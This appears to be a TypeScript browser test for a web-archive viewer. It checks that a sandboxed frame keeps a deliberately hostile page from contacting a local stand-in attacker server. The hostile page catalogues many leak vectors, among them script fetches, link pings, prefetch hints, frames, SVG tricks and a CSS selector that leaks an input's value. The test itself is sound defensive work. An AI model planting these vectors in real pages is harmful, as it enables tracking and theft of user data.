import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import type { Browser } from 'playwright-core'
import { archivedHome, serveHome, TOKEN } from './archived-home.ts'
import { liveBrowser } from './live-browser.ts'

let browser: Browser
let attacker: Server
const reached: string[] = []

before(async () => {
  attacker = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.end('x')
  })
  await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', done))
  browser = await liveBrowser()
})
after(async () => {
  await browser.close()
  attacker.close()
})

interface Shown {
  readonly origin: string
  readonly words: string
  readonly colour: string
  readonly pictures: number
}

/** Everything a page has ever tried, against a server that waits for it. */
function hostile(at: string): string {
  return `<!doctype html><html><head><title>Hostile</title><base href="${at}/">
<meta http-equiv="refresh" content="0;url=${at}/refresh">
<link rel="dns-prefetch" href="${at}"><link rel="preconnect" href="${at}"><link rel="prefetch" href="${at}/prefetch">
<link rel="prerender" href="${at}/prerender"><link rel="modulepreload" href="${at}/module.js">
<link rel="icon" href="${at}/icon">
<link rel="manifest" href="${at}/manifest"><link rel="stylesheet" href="${at}/sheet.css">
<link rel="stylesheet" href="https://site.example/kept.css">
<script>fetch('${at}/script')</script><script src="${at}/remote.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at}/spec"]}]}</script>
<style>@import "${at}/import.css"; @import url(${at}/import2.css);
body{background:url(${at}/body.png)} p::after{content:url("${at}/after.png")} 
@font-face{font-family:f;src:url(${at}/f.woff)} p{font-family:f}
input[value^="s"]{background:u\\72l(${at}/leak?s)} i{background:image-set("${at}/set.png" 1x)} 
b{cursor:url(${at}/c.cur),auto}
</style></head>
<body onload="fetch('${at}/onload')"><p>Tea did <b>not</b> lower blood pressure in the trial.</p>
<form action="${at}/form" id="f"><input name="secret" value="secret" autofocus onfocus="fetch('${at}/focus')">
<button>send</button></form>
<a id="leave" href="${at}/link" ping="${at}/ping" target="_top">leave</a><a href="javascript:fetch('${at}/js')">js</a>
<img src="${at}/img.png" srcset="${at}/set2.png 2x" onerror="fetch('${at}/onerror')"><picture>
<source srcset="${at}/picture.png"><img src="https://site.example/kept.png"></picture>
<iframe src="${at}/frame" srcdoc="<script>top.location='${at}/srcdoc'</script>"></iframe>
<object data="${at}/object"></object><embed src="${at}/embed"><video src="${at}/video" poster="${at}/poster" autoplay>
</video><audio src="${at}/audio" autoplay></audio>
<svg><script>fetch('${at}/svg')</script><image href="${at}/svgimage.png" width="9" height="9"/>
<use href="${at}/use.svg#a"/>
<set attributeName="href" to="${at}/set"/>
<rect width="9" height="9" fill="url(${at}/fill.svg#g)" filter="url(${at}/filter.svg#g)"/><foreignObject>
<iframe src="${at}/foreign"></iframe></foreignObject></svg>
<math><annotation-xml encoding="text/html"><iframe src="${at}/math"></iframe></annotation-xml></math>
<noscript><img src="${at}/noscript.png"><meta http-equiv="refresh" content="0;url=${at}/noscript"></noscript>
<table background="${at}/table.png"><tr><td style="background-image:url(${at}/td.png)">cell</td></tr></table></body>
</html>`
}

test('a hostile page from the archive stays inert: nothing leaves this machine, and what was kept is shown', {
  timeout: 60_000,
}, async (t) => {
  const at = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
  const pixel = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  )
  const { home } = await archivedHome(t, [
    {
      id: 'page_1',
      url: 'https://site.example/hostile',
      type: 'text/html; charset=utf-8',
      body: hostile(at),
      passages: [{ id: 'frag_1', text: 'Tea did not lower blood pressure in the trial.' }],
      judged: {
        passage: 'frag_1',
        claim: 'Tea lowers blood pressure.',
        sentence: 'Tea did not lower blood pressure in the trial.',
      },
      resources: [
        {
          url: 'https://site.example/kept.css',
          type: 'text/css',
          body: `p{color:rgb(1,2,3);background:url(kept.png)} h1{background:url(${at}/nested.png)}`,
        },
        { url: 'https://site.example/kept.png', type: 'image/png', body: pixel },
      ],
    },
  ])
  const server = await serveHome(t, home)
  const context = await browser.newContext()
  t.after(() => context.close())
  const page = await context.newPage()
  // What the policy of the frame refuses is told as a request, too, and never leaves the browser.
  const [asked, refused]: [string[], Set<string>] = [[], new Set()]
  context.on('request', (request) => asked.push(request.url()))
  context.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') refused.add(request.url())
  })
  await page.goto(`${server.url}/?token=${TOKEN}`)
  await page.waitForURL(/\/tasks$/u)
  await page.goto(`${server.url}/archive/page/page_1?fragment=frag_1`)
  const frame = page.frames()[1]
  assert.ok(frame !== undefined, 'the archived page is in a frame')
  await frame.waitForLoadState('load')
  assert.notEqual(new URL(frame.url()).origin, new URL(server.url).origin, 'of another origin')
  await frame.locator('#leave').click({ force: true })
  await frame
    .locator('button')
    .click({ force: true })
    .catch(() => undefined)
  await page.waitForTimeout(1200)

  assert.deepEqual(reached, [], 'nothing reached the attacker')
  const made = asked.filter((url) => !url.startsWith('data:') && !refused.has(url))
  const origins = new Set(made.map((url) => new URL(url).origin))
  assert.deepEqual([...origins].sort(), [new URL(server.url).origin, new URL(frame.url()).origin].sort(), 'no other')
  assert.equal(page.url(), `${server.url}/archive/page/page_1?fragment=frag_1`, 'the page was not led away')
  const shown = await page.frames()[1]?.evaluate<Shown>(`({
    origin: self.origin,
    words: [...document.querySelectorAll('mark')].map((one) => one.textContent).join(''),
    colour: getComputedStyle(document.querySelector('mark').parentElement).color,
    pictures: [...document.images].filter((image) => image.complete && image.naturalWidth > 0).length,
  })`)
  assert.equal(shown?.origin, 'null', 'an origin of its own, with which nothing can be read')
  assert.equal(shown?.words, 'Tea did not lower blood pressure in the trial.')
  assert.equal(shown?.colour, 'rgb(1, 2, 3)', 'the archived style sheet is used')
  assert.equal(shown?.pictures, 1, 'the archived picture is shown')

  // The same page as it would be without the archive: what the attacker is not told above, he is told here.
  const bare = await context.newPage()
  await bare.setContent(hostile(at), { waitUntil: 'commit' }).catch(() => undefined)
  for (let tries = 0; tries < 50 && reached.length < 5; tries += 1) await page.waitForTimeout(100)
  assert.ok(reached.length >= 5, reached.join(' '))
})
